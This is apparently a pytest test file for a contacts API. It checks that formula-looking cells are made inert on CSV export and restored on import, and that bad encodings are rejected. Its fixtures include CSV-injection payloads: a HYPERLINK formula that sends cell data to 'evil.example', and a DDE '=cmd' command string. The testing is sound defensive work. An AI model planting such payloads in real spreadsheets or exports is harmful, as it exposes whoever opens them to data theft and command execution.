"""Contacts CSV: formula-looking cells are made inert on export and restored on import; the file is
UTF-8 with or without a BOM, and a file that is not (or holds NUL characters) is a clear 422."""

from __future__ import annotations

import csv
import io

import pytest

from bot.apikeys import create_key
from models import Contact, Group

MOBILE = "+46731234567"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]


@pytest.fixture
def shop(make_account):
    return make_account(name="Shop")


def headers(account, role: str = "user") -> dict[str, str]:
    return {"Authorization": f"Bearer {create_key(account, role)[1]}", "Content-Type": "text/csv"}


def exported_rows(client, account) -> list[list[str]]:
    answer = client.get("/api/v1/contacts/export", headers=headers(account, "viewer"))
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True))))


@pytest.mark.parametrize("name", HOSTILE)
def test_export_prefixes_formula_cells_and_import_restores_them(client, shop, name, run_worker):
    contact = Contact.create(account=shop, phone=MOBILE, first_name=name, last_name="Berg")
    group = Group.create(account=shop, name="=cmd|' /C calc'!A0", name_key="=cmd|' /c calc'!a0")
    contact.memberships.model.create(group=group, contact=contact)
    rows = exported_rows(client, shop)
    assert rows[1] == [MOBILE, "'" + name, "Berg", "'=cmd|' /C calc'!A0"]

    Contact.delete().execute()
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    imported = client.post("/api/v1/contacts/import", data=out.getvalue().encode(), headers=headers(shop))
    assert imported.status_code == 202, imported.json
    run_worker()
    restored = Contact.get()
    assert (restored.phone, restored.first_name, restored.last_name) == (MOBILE, name, "Berg")
    assert [g.name for g in Group.select()] == ["=cmd|' /C calc'!A0"]


def test_an_ordinary_apostrophe_is_kept(client, shop, run_worker):
    answer = client.post("/api/v1/contacts/import", data=b"phone,first_name\n0731234567,'Tis\n", headers=headers(shop))
    assert answer.status_code == 202
    run_worker()
    assert Contact.get().first_name == "'Tis"
    assert exported_rows(client, shop)[1] == [MOBILE, "'Tis", "", ""]


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_import_reads_utf8_with_or_without_bom(client, shop, bom, run_worker):
    data = bom + "phone,first_name,last_name\n0731234567,Åsa,Öberg\n".encode()
    answer = client.post("/api/v1/contacts/import", data=data, headers=headers(shop))
    assert answer.status_code == 202, answer.json
    run_worker()
    assert (Contact.get().first_name, Contact.get().last_name) == ("Åsa", "Öberg")


def test_a_file_that_is_not_utf8_is_a_clear_422_and_imports_nothing(client, shop):
    data = "phone,first_name\n0731234567,Åsa\n".encode("latin-1")
    answer = client.post("/api/v1/contacts/import", data=data, headers=headers(shop))
    assert answer.status_code == 422
    assert answer.json["error"]["field"] == "file"
    assert "not UTF-8" in answer.json["error"]["message"]
    assert Contact.select().count() == 0


@pytest.mark.parametrize("data", [b"phone,first_name\n0731234567,A\x00B\n", b"phone\x00,first_name\n", b"\x00" * 40])
def test_a_file_with_nul_characters_is_a_clear_422(client, shop, data):
    answer = client.post("/api/v1/contacts/import", data=data, headers=headers(shop))
    assert (answer.status_code, answer.json["error"]["field"]) == (422, "file")
    assert Contact.select().count() == 0
